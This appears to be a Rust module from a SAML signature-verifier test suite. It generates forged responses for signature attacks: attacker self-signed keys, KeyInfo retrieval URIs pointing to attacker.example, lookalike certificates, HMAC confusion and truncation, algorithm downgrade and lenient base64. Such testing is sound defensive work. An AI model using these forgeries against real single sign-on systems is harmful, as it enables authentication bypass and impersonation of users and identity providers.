//! Keys that the message brings, and algorithms that prove nothing (ATT-061 to ATT-069, ATT-072).

use super::{Variants, attacks, places};
use crate::answer::Signed;
use crate::edit;
use crate::error::Error;
use crate::good_message::{GoodMessage, sign_with};

attacks! {
    "061" self_signed_response_key Response "signature_invalid" own_key,
        "signs with a key of the attacker and sends its certificate along";
    "062" keyinfo_retrieval_ssrf Response "signature_key_info" retrieval,
        "names a key elsewhere";
    "063" cert_lookalike_pkix Response "signature_invalid" lookalike,
        "signs with a key of the attacker under the name of the genuine one";
    "065" wrong_key_for_issuer Response "signature_invalid" other_issuer,
        "lets one identity provider speak for another";
    "066" hmac_confusion Response "signature_algorithm" hmac,
        "names an HMAC, signed";
    "067" hmac_truncation Response "signature_algorithm" hmac_length,
        "names an HMAC of a few bits, signed";
    "068" algorithm_downgrade Response "signature_algorithm" downgrade,
        "names an algorithm that is broken or unknown, signed";
    "069" key_type_mismatch Response "signature_algorithm" key_type,
        "names an algorithm for another kind of key, signed";
    "072" base64_laxness Response "signature_value" base64,
        "writes a value in base64 that is not canonical, signed";
}

/// For a verifier that takes the key from the message: everybody has a key.
fn own_key(good: &GoodMessage, variants: &mut Variants) -> Result<(), Error> {
    for (name, signed) in [("response", Signed::Response), ("assertion", Signed::Assertion), ("both", Signed::Both)] {
        let twin = good.signed(signed);
        let attacker = &good.keys().attacker;
        variants.add(format!("{name}_genuine_content"), sign_with(good.unsigned(), signed, attacker)?, twin.as_str());
        variants.add(format!("{name}_forged"), sign_with(&good.forged()?, signed, attacker)?, twin);
    }
    // The assertion is genuine, the message around it is the attacker's.
    let genuine = good.signed(Signed::Assertion);
    let around = sign_with(&genuine, Signed::Response, &good.keys().attacker)?;
    variants.add("around_a_genuine_assertion", around, good.signed(Signed::Both));
    let inside = sign_with(&good.forged()?, Signed::Assertion, &good.keys().attacker)?;
    variants.add("within_a_genuine_response", good.sign(&inside, Signed::Response)?, good.signed(Signed::Both));
    Ok(())
}

/// For a verifier that fetches the key from where the message says.
fn retrieval(good: &GoodMessage, variants: &mut Variants) -> Result<(), Error> {
    for (place, path, twin) in places(good)? {
        for (name, content) in [
            ("retrieval_method", "<ds:RetrievalMethod URI=\"http://attacker.example/key\"/>"),
            ("retrieval_in_document", "<ds:RetrievalMethod URI=\"#_key\"/>"),
            (
                "reference",
                "<x:KeyInfoReference xmlns:x=\"http://www.w3.org/2009/xmldsig11#\" URI=\"http://attacker.example/\"/>",
            ),
            ("pgp", "<ds:PGPData/>"),
            ("management", "<ds:MgmtData>x</ds:MgmtData>"),
        ] {
            let replaced = edit::content(&twin, &format!("{path}/KeyInfo"), |_| content.to_owned())?;
            variants.add(format!("{place}_{name}"), replaced, twin.as_str());
            let added = edit::last_in(&twin, &format!("{path}/KeyInfo"), content)?;
            variants.add(format!("{place}_{name}_added"), added, twin.as_str());
        }
    }
    Ok(())
}

/// For a verifier that knows the partner by the name in a certificate, or trusts a certificate for being there.
fn lookalike(good: &GoodMessage, variants: &mut Variants) -> Result<(), Error> {
    let genuine = edit::source(&good.signed(Signed::Response), "Signature/KeyInfo")?;
    let name = good.keys().identity_provider.verifying_key().sha256_fingerprint().to_owned();
    for (place, path, signed) in
        [("response", "Signature", Signed::Response), ("assertion", "Assertion/Signature", Signed::Assertion)]
    {
        let twin = good.signed(signed);
        let forged = sign_with(&good.forged()?, signed, &good.keys().attacker)?;
        let key_info = format!("{path}/KeyInfo");
        let namespace = "xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\"";
        let borrowed = edit::replace(
            &forged,
            &key_info,
            &genuine.replacen("<ds:KeyInfo", &format!("<ds:KeyInfo {namespace}"), 1),
        )?;
        variants.add(format!("{place}_certificate_of_the_genuine_key"), borrowed, twin.as_str());
        let named = edit::content(&forged, &key_info, |_| format!("<ds:KeyName>{name}</ds:KeyName>"))?;
        variants.add(format!("{place}_name_of_the_genuine_key"), named, twin);
    }
    Ok(())
}

/// For a verifier that tries the keys of all partners, whoever the message says to be from.
fn other_issuer(good: &GoodMessage, variants: &mut Variants) -> Result<(), Error> {
    let twin = good.signed(Signed::Both);
    let other = |_: &str| "https://other-idp.example/saml".to_owned();
    // The other identity provider signs for the genuine one.
    variants.add("key_of_another", sign_with(good.unsigned(), Signed::Both, &good.keys().attacker)?, twin.as_str());
    // The other identity provider signs for itself: an honest message, sent to the wrong place.
    let honest = edit::content(&edit::content(good.unsigned(), "Issuer", other)?, "Assertion/Issuer", other)?;
    variants.add_as(
        "issuer",
        "another_by_itself",
        sign_with(&honest, Signed::Both, &good.keys().attacker)?,
        twin.as_str(),
    );
    variants.add_as("issuer", "another_with_the_genuine_key", good.sign(&honest, Signed::Both)?, twin.as_str());
    let inner = good.changed(Signed::Both, |xml| edit::content(xml, "Assertion/Issuer", other))?;
    variants.add_as("assertion_issuer", "assertion_of_another", inner, twin);
    Ok(())
}

/// Names another algorithm, and signs what it says with the genuine key.
fn with_method(good: &GoodMessage, variants: &mut Variants, methods: &[(&str, &str)]) -> Result<(), Error> {
    for (place, path, twin) in places(good)? {
        for (name, uri) in methods {
            let bad = edit::set_attribute(&twin, &format!("{path}/SignedInfo/SignatureMethod"), "Algorithm", uri)?;
            variants.add(format!("{place}_{name}"), good.resign(&bad, path, &[])?, twin.as_str());
        }
    }
    Ok(())
}

const HMACS: [(&str, &str); 4] = [
    ("hmac_sha1", "http://www.w3.org/2000/09/xmldsig#hmac-sha1"),
    ("hmac_sha256", "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"),
    ("hmac_sha512", "http://www.w3.org/2001/04/xmldsig-more#hmac-sha512"),
    ("hmac_md5", "http://www.w3.org/2001/04/xmldsig-more#hmac-md5"),
];

/// For a verifier that lets the message choose a symmetric algorithm: the public key is then the secret.
fn hmac(good: &GoodMessage, variants: &mut Variants) -> Result<(), Error> {
    with_method(good, variants, &HMACS)
}

/// For a verifier that compares as few bits as the message says.
fn hmac_length(good: &GoodMessage, variants: &mut Variants) -> Result<(), Error> {
    for (place, path, twin) in places(good)? {
        let method = format!("{path}/SignedInfo/SignatureMethod");
        for bits in ["0", "8", "40"] {
            let length = format!("<ds:HMACOutputLength>{bits}</ds:HMACOutputLength>");
            let truncated = edit::last_in(&twin, &method, &length)?;
            let bad =
                edit::set_attribute(&truncated, &method, "Algorithm", "http://www.w3.org/2000/09/xmldsig#hmac-sha1")?;
            variants.add(format!("{place}_{bits}_bits"), good.resign(&bad, path, &[])?, twin.as_str());
            let bad = good.resign(&truncated, path, &[])?;
            variants.add_as("signature_structure", format!("{place}_{bits}_bits_of_rsa"), bad, twin.as_str());
        }
    }
    Ok(())
}

/// For a verifier that takes any algorithm that its library has.
fn downgrade(good: &GoodMessage, variants: &mut Variants) -> Result<(), Error> {
    let methods = [
        ("rsa_sha1", "http://www.w3.org/2000/09/xmldsig#rsa-sha1"),
        ("dsa_sha1", "http://www.w3.org/2000/09/xmldsig#dsa-sha1"),
        ("rsa_md5", "http://www.w3.org/2001/04/xmldsig-more#rsa-md5"),
        ("rsa_ripemd160", "http://www.w3.org/2001/04/xmldsig-more#rsa-ripemd160"),
        ("unknown", "urn:x:none"),
        ("empty", ""),
        ("other_case", "http://www.w3.org/2001/04/xmldsig-more#RSA-SHA256"),
        ("space", "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256 "),
    ];
    with_method(good, variants, &methods)?;
    for (place, path, twin) in places(good)? {
        for (name, uri) in [
            ("digest_sha1", "http://www.w3.org/2000/09/xmldsig#sha1"),
            ("digest_md5", "http://www.w3.org/2001/04/xmldsig-more#md5"),
            ("digest_ripemd160", "http://www.w3.org/2001/04/xmlenc#ripemd160"),
            ("digest_unknown", "urn:x:none"),
        ] {
            let method = format!("{path}/SignedInfo/Reference/DigestMethod");
            let bad = edit::set_attribute(&twin, &method, "Algorithm", uri)?;
            let bad = good.resign(&bad, path, &[])?;
            variants.add_as("signature_digest_algorithm", format!("{place}_{name}"), bad, twin.as_str());
        }
    }
    Ok(())
}

/// For a verifier that hands a key to an algorithm of another kind, and takes what comes of it.
fn key_type(good: &GoodMessage, variants: &mut Variants) -> Result<(), Error> {
    let methods = [
        ("ecdsa", "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256"),
        ("dsa", "http://www.w3.org/2009/xmldsig11#dsa-sha256"),
        ("pss", "http://www.w3.org/2007/05/xmldsig-more#sha256-rsa-MGF1"),
        ("ed25519", "http://www.w3.org/2021/04/xmldsig-more#eddsa-ed25519"),
    ];
    with_method(good, variants, &methods)
}

/// For a lenient decoder: one value then has many forms, which a list of used ones does not know.
fn base64(good: &GoodMessage, variants: &mut Variants) -> Result<(), Error> {
    for (place, path, twin) in places(good)? {
        let value = format!("{path}/SignatureValue");
        let old = edit::text(&twin, &value)?;
        for (name, new) in [
            ("junk", format!("!{old}")),
            ("no_padding", old.trim_end_matches('=').to_owned()),
            ("more_padding", format!("{old}=")),
            ("url_alphabet", format!("-_{}", old.get(2..).unwrap_or_default())),
            ("no_break_space", format!("\u{A0}{old}")),
        ] {
            variants.add(format!("{place}_{name}"), edit::content(&twin, &value, |_| new)?, twin.as_str());
        }
        // RFC 4648 3.5: bits behind the last byte that are not zero.
        let stray = edit::content(&twin, &value, stray_bits)?;
        variants.add(format!("{place}_stray_bits"), stray, twin.as_str());
        let digest = format!("{path}/SignedInfo/Reference/DigestValue");
        let bad = edit::content(&twin, &digest, |old| old.trim_end_matches('=').to_owned())?;
        variants.add(format!("{place}_digest_without_padding"), good.resign(&bad, path, &[])?, twin);
    }
    Ok(())
}

/// Changes the bits behind the last byte, which a lenient decoder drops.
fn stray_bits(text: &str) -> String {
    const ALPHABET: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let body = text.trim_end_matches('=');
    let padding = text.len() - body.len();
    let last = body.chars().last().and_then(|last| ALPHABET.find(last)).unwrap_or(0);
    // With two fillers the last character holds four bits too many, with one two.
    let next = ALPHABET.chars().nth(last + 1).unwrap_or('B');
    format!("{}{next}{}", body.get(..body.len() - 1).unwrap_or_default(), "=".repeat(padding))
}
